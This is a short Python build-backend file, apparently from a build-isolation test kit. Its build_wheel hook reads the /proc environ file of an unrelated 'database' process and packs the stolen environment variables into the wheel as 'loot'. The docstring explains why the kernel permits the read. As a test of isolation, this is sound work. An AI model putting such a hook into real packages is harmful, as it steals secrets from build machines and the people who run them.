"""Reads /proc/PID/environ of a process that has nothing to do with this build.

The kernel asks whether the reader could trace the other process. Under the same uid, with
no boundary between, the answer is yes.
"""

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read-environ"):
        with open(f"/proc/{kit.find('database')}/environ", "rb") as environ:
            loot["data.bin"] = environ.read()
    return kit.wheel(wheel_directory, loot)
